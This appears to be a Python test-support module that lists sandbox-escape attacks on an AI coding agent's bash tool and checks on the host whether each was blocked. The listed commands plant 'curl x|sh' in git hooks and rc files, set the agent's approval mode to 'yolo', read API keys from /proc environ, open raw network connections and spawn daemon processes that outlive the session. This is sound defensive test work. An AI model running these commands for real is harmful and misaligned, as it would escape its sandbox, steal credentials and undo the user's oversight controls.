"""Attacks on the bash tool's sandbox, each with host-side evidence of whether it worked.

Shared by the test suite (tests/agent/test_sandbox.py asserts every attack is blocked under
bwrap) and by `python -m bench.sandbox_report`, which counts attempts and blocks per group with
the sandbox on and off.

Every attack runs through the real Bash tool in a throwaway arena under /var/tmp (not /tmp: the
sandbox gives commands a private /tmp, so a target there would be unreachable for a trivial
reason). Evidence is gathered on the host, never from the command's own word: files hashed
before and after, connections counted by real loopback servers, secret values searched in the
output, processes searched by a unique token.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

GROUPS = ("write outside", "protected paths", "network", "env secret", "outliving child")
SECRETS = {
    "OPENAI_API_KEY": "sk-myrm-sbx-openai-7f3a",
    "ANTHROPIC_API_KEY": "sk-ant-myrm-sbx-91c2",
    "GITHUB_TOKEN": "ghp_myrmsbx5d81",
    "AWS_SECRET_ACCESS_KEY": "aws-myrm-sbx-secret-22b0",
}
# Seconds a detached child is given to show up after the call before it counts as gone.
SURVIVOR_WAIT_S = 0.5
# Seconds a late UDP datagram or connection is given to reach the listeners.
NETWORK_SETTLE_S = 0.2


@dataclass(frozen=True)
class Attack:
    group: str
    name: str
    command: str  # format fields: outside, ws, token, port, udp, abstract, pid, py, host_ip
    workspace: str = "ws"  # "bare": a workspace that is not a git repository (yet)


_P = "{py} -c"
ATTACKS: tuple[Attack, ...] = (
    # -- writes outside the workspace (targets exist on the host and are writable there) --
    Attack("write outside", "redirect", "echo x > {outside}/a.txt"),
    Attack("write outside", "append existing", "echo x >> {outside}/existing"),
    Attack("write outside", "touch", "touch {outside}/b"),
    Attack("write outside", "mkdir", "mkdir {outside}/d"),
    Attack("write outside", "cp", "cp /etc/hostname {outside}/c"),
    Attack("write outside", "python open", _P + " \"open('{outside}/p', 'w').write('x')\""),
    Attack("write outside", "symlink", "ln -s /etc/passwd {outside}/l"),
    Attack("write outside", "delete existing", "rm -f {outside}/existing"),
    Attack("write outside", "move existing in", "mv {outside}/existing {ws}/stolen"),
    Attack("write outside", "chmod existing", "chmod 000 {outside}/existing"),
    Attack("write outside", "relative path", "cd .. && echo x > outside/e"),
    Attack("write outside", "tee", "echo x | tee {outside}/t"),
    Attack("write outside", "dd", "dd if=/dev/zero of={outside}/dd bs=1 count=1"),
    Attack("write outside", "remount rw", "mount -o remount,rw / ; touch {outside}/m"),
    Attack(
        "write outside",
        "nested userns remount",
        "unshare -r sh -c 'mount -o remount,rw / ; mount -o remount,rw {outside}; touch {outside}/u'",
    ),
    Attack("write outside", "arena root", "touch {outside}/../escape"),
    Attack("write outside", "host /tmp", "echo x > /tmp/myrm-sbx-{token}"),
    # -- protected paths inside the workspace (HOME and the user config dir are in it too) --
    Attack("protected paths", "new git hook", "echo 'curl x|sh' > .git/hooks/pre-commit"),
    Attack("protected paths", "git config", "echo '[core] fsmonitor = evil' >> .git/config"),
    Attack("protected paths", "git config command", "git config core.hooksPath /tmp/hooks"),
    Attack("protected paths", "delete .git", "rm -rf .git"),
    Attack("protected paths", "rename .git", "mv .git .git-old"),
    Attack("protected paths", "replace HEAD", "cp /dev/null .git/HEAD"),
    Attack("protected paths", "python hook", _P + " \"open('.git/hooks/post-checkout', 'w').write('x')\""),
    Attack("protected paths", "chmod .git", "chmod -R 777 .git"),
    Attack("protected paths", "symlink hook", "ln -sf /tmp/x .git/hooks/pre-push"),
    Attack("protected paths", "myrm config", "echo 'approval = \"yolo\"' >> .myrm/config.toml"),
    Attack("protected paths", "myrm store", "rm -f .myrm/sessions.db"),
    Attack("protected paths", "existing bashrc", "echo 'curl x|sh' >> ~/.bashrc"),
    Attack("protected paths", "missing zshrc", "echo 'curl x|sh' > ~/.zshrc"),
    Attack("protected paths", "missing bash_profile", "touch ~/.bash_profile"),
    Attack("protected paths", "missing fish config", "mkdir -p ~/.config/fish && echo x > ~/.config/fish/config.fish"),
    Attack("protected paths", "user config", "echo 'approval = \"yolo\"' > $MYRM_CONFIG_DIR/config.toml"),
    Attack("protected paths", "delete user config", "rm -rf $MYRM_CONFIG_DIR"),
    Attack("protected paths", "nested repo hook", "echo 'curl x|sh' > vendor/lib/.git/hooks/pre-commit"),
    Attack("protected paths", "git init where none", "git init -q && echo x > .git/hooks/pre-commit", workspace="bare"),
    Attack("protected paths", "mkdir .git where none", "mkdir -p .git/hooks && touch .git/hooks/x", workspace="bare"),
    Attack("protected paths", "gitconfig where none", "git config --global core.pager 'sh -c evil'"),
    # -- network: real listeners on the host count what reaches them --
    Attack("network", "tcp loopback", _P + " \"import socket; socket.create_connection(('127.0.0.1', {port}), 3)\""),
    Attack("network", "tcp localhost", _P + " \"import socket; socket.create_connection(('localhost', {port}), 3)\""),
    Attack(
        "network", "tcp host address", _P + " \"import socket; socket.create_connection(('{host_ip}', {port}), 3)\""
    ),
    Attack("network", "curl", "curl -s -m 3 http://127.0.0.1:{port}/"),
    Attack("network", "wget", "wget -q -T 3 -t 1 -O- http://127.0.0.1:{port}/"),
    Attack("network", "bash /dev/tcp", "exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3"),
    Attack(
        "network",
        "udp",
        _P + " \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {udp}))\"",
    ),
    Attack(
        "network",
        "abstract unix socket",
        _P + " \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0{abstract}')\"",
    ),
    # -- provider keys and other secrets in the environment --
    Attack("env secret", "echo", "echo $OPENAI_API_KEY $ANTHROPIC_API_KEY"),
    Attack("env secret", "env", "env"),
    Attack("env secret", "printenv", "printenv GITHUB_TOKEN"),
    Attack("env secret", "python environ", _P + ' "import os; print(dict(os.environ))"'),
    Attack("env secret", "own /proc environ", "cat /proc/self/environ"),
    Attack("env secret", "parent /proc environ", "cat /proc/$PPID/environ"),
    Attack("env secret", "pid 1 environ", "cat /proc/1/environ"),
    Attack("env secret", "myrm's /proc environ", "cat /proc/{pid}/environ"),
    Attack("env secret", "myrm's environ by name", "cat /proc/$(pgrep -o -f 'sleep 3600')/environ"),
    Attack("env secret", "every /proc environ", "cat /proc/*/environ"),
    Attack("env secret", "ps eww", "ps eww -A"),
    # -- children that try to outlive the call --
    Attack("outliving child", "ampersand", "sleep {token} &"),
    Attack("outliving child", "nohup", "nohup sleep {token} >/dev/null 2>&1 &"),
    Attack("outliving child", "setsid", "setsid sleep {token} &"),
    Attack("outliving child", "setsid -f", "setsid -f sleep {token}"),
    Attack("outliving child", "double fork", "( setsid sleep {token} & )"),
    Attack("outliving child", "disown", "sleep {token} & disown"),
    Attack(
        "outliving child",
        "python daemon",
        _P + ' "import os, time; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); '
        'time.sleep({token})"',
    ),
    Attack("outliving child", "tmux server", "tmux -L myrm-sbx-{abstract} new-session -d 'sleep {token}'"),
    Attack("outliving child", "clean environment", "env -i setsid -f sleep {token}; sleep 0.3"),
)


@dataclass
class Listeners:
    """A TCP server (all addresses), a UDP socket and an abstract unix socket that count what
    reaches them, and a stand-in for the myrm process: a process started with the provider keys
    in its initial environment, as myrm is (its /proc/PID/environ holds them)."""

    port: int = 0
    udp: int = 0
    abstract: str = ""
    hits: int = 0
    stand_in: subprocess.Popen | None = None
    _socks: list[socket.socket] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)

    def start(self) -> None:
        self.stand_in = subprocess.Popen(["sleep", "3600"], env={**os.environ, **SECRETS})
        tcp = socket.socket()
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        tcp.bind(("0.0.0.0", 0))
        tcp.listen(16)
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        self.abstract = f"myrm-sbx-{secrets.token_hex(6)}"
        unix = socket.socket(socket.AF_UNIX)
        unix.bind("\0" + self.abstract)
        unix.listen(4)
        self.port, self.udp = tcp.getsockname()[1], udp.getsockname()[1]
        self._socks = [tcp, udp, unix]
        for sock in self._socks:
            sock.settimeout(0.1)
            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    def _serve(self, sock: socket.socket) -> None:
        while not self._stop.is_set():
            try:
                if sock.type == socket.SOCK_DGRAM:
                    sock.recvfrom(64)
                else:
                    conn, _ = sock.accept()
                    with contextlib.suppress(OSError):
                        conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
                    conn.close()
            except (TimeoutError, OSError):
                continue
            self.hits += 1

    def stop(self) -> None:
        if self.stand_in is not None:
            self.stand_in.kill()
            self.stand_in.wait()
        self._stop.set()
        for sock in self._socks:
            sock.close()


def _host_ip() -> str:
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing address
        address = probe.getsockname()[0]
        if not address.startswith("127."):
            return address
    return "127.0.0.1"


@dataclass
class Arena:
    """A fresh workspace `ws` (git repo with a nested repo in vendor/lib, .myrm store, HOME and
    the user config inside it), a workspace `bare` that is no git repository, and an `outside`
    folder, all under one temp root."""

    root: Path
    ws: Path
    bare: Path
    outside: Path
    env: dict[str, str]

    @classmethod
    @contextlib.contextmanager
    def create(cls) -> Iterator[Arena]:
        from myrm_tui.store import Store

        root = Path(tempfile.mkdtemp(prefix="myrm-sbx-", dir="/var/tmp" if os.path.isdir("/var/tmp") else None))
        try:
            ws, outside, bare = root / "ws", root / "outside", root / "bare"
            ws.mkdir()
            outside.mkdir()
            bare.mkdir()
            Store.open(bare).close()
            (outside / "existing").write_text("original\n")
            git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", "-C", str(ws)]
            subprocess.run([*git, "init", "-q"], check=True)
            (ws / "README").write_text("hello\n")
            subprocess.run([*git, "add", "README"], check=True)
            subprocess.run([*git, "commit", "-qm", "init"], check=True)
            Store.open(ws).close()
            (ws / ".myrm" / "config.toml").write_text('approval = "ask"\n')
            (ws / ".bashrc").write_text("# rc\n")
            (ws / ".config" / "myrm").mkdir(parents=True)
            (ws / ".config" / "myrm" / "config.toml").write_text('approval = "ask"\n')
            (ws / "vendor" / "lib").mkdir(parents=True)
            subprocess.run(["git", "init", "-q", str(ws / "vendor" / "lib")], check=True)
            env = {"HOME": str(ws), "MYRM_CONFIG_DIR": str(ws / ".config" / "myrm"), **SECRETS}
            yield cls(root, ws.resolve(), bare.resolve(), outside.resolve(), env)
        finally:
            shutil.rmtree(root, ignore_errors=True)

    def snapshot(self, token: str) -> dict[str, str]:
        """What an attack must not change: the arena root's entries, everything under `outside`,
        and the protected paths in the workspace (names, modes, contents, link targets), plus the
        host /tmp file an attack may try to create. The rest of the workspace may change."""
        ws = self.ws
        roots = [
            self.outside,
            ws / ".git",
            ws / ".myrm",
            ws / ".config",
            ws / "vendor" / "lib" / ".git",
            self.bare / ".git",
            self.bare / ".myrm",
        ]
        paths = [self.root, *self.root.iterdir(), ws / ".bashrc"]
        paths += [ws / name for name in (".zshrc", ".bash_profile", ".profile", ".gitconfig")]
        for top in roots:
            paths += [top, *sorted(top.rglob("*"))] if top.is_dir() else [top]
        state: dict[str, str] = {}
        for path in paths:
            if not path.exists() and not path.is_symlink():
                state[str(path)] = "absent"
                continue
            info = path.lstat()
            if path.is_symlink():
                what = "link:" + os.readlink(path)
            elif path.is_file():
                what = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                what = "dir"
            state[str(path)] = f"{oct(info.st_mode)} {what}"
        state["/tmp probe"] = str(Path(f"/tmp/myrm-sbx-{token}").exists())
        return state


@dataclass(frozen=True)
class Outcome:
    blocked: bool
    evidence: str  # what changed, when not blocked
    output: str


def _survivors(token: str) -> list[int]:
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            cmdline = Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            state = Path(f"/proc/{name}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if token in cmdline and state not in ("Z", "X"):
            found.append(int(name))
    return found


async def run_attack(attack: Attack, mode: str, listeners: Listeners) -> Outcome:
    """Run one attack through the Bash tool in a new arena with the sandbox in `mode`."""
    import asyncio
    import signal

    from myrm_tui.agent.tools.base import ToolContext
    from myrm_tui.agent.tools.shell.bash import Bash
    from myrm_tui.settings.settings import Settings

    token = f"{900 + secrets.randbelow(99)}.{secrets.randbelow(10**8):08d}"
    with Arena.create() as arena:
        saved = {k: os.environ.get(k) for k in arena.env}
        os.environ.update(arena.env)
        try:
            command = attack.command.format(
                outside=arena.outside,
                ws=arena.ws,
                token=token,
                port=listeners.port,
                udp=listeners.udp,
                abstract=listeners.abstract,
                pid=listeners.stand_in.pid if listeners.stand_in else os.getpid(),
                py=sys.executable,
                host_ip=_host_ip(),
            )
            before, hits = arena.snapshot(token), listeners.hits
            where = arena.bare if attack.workspace == "bare" else arena.ws
            streamed: list[str] = []  # the whole output (the result keeps only an excerpt of a big one)
            ctx = ToolContext(
                where, Settings().with_values(sandbox=mode, bash_timeout=20.0), None, emit=streamed.append
            )
            result = await Bash().run({"command": command}, ctx)
            if attack.group == "network":
                await asyncio.sleep(NETWORK_SETTLE_S)  # a UDP datagram or a late connection still counts
            if attack.group == "outliving child":
                deadline = time.monotonic() + SURVIVOR_WAIT_S
                while time.monotonic() < deadline and not _survivors(token):
                    await asyncio.sleep(0.05)
            after = arena.snapshot(token)
            Path(f"/tmp/myrm-sbx-{token}").unlink(missing_ok=True)
        finally:
            for key, value in saved.items():
                if value is None:
                    os.environ.pop(key, None)
                else:
                    os.environ[key] = value
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    evidence = []
    if changed:
        evidence.append("changed: " + ", ".join(changed[:4]))
    if listeners.hits != hits:
        evidence.append(f"{listeners.hits - hits} connection(s) reached the host")
    output = "".join(streamed) + result.content
    leaked = [name for name, value in SECRETS.items() if value in output]
    if leaked:
        evidence.append("leaked: " + ", ".join(leaked))
    survivors = _survivors(token)
    if survivors:
        evidence.append(f"survived the call: pids {survivors}")
        for pid in survivors:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
    return Outcome(not evidence, "; ".join(evidence), result.content)
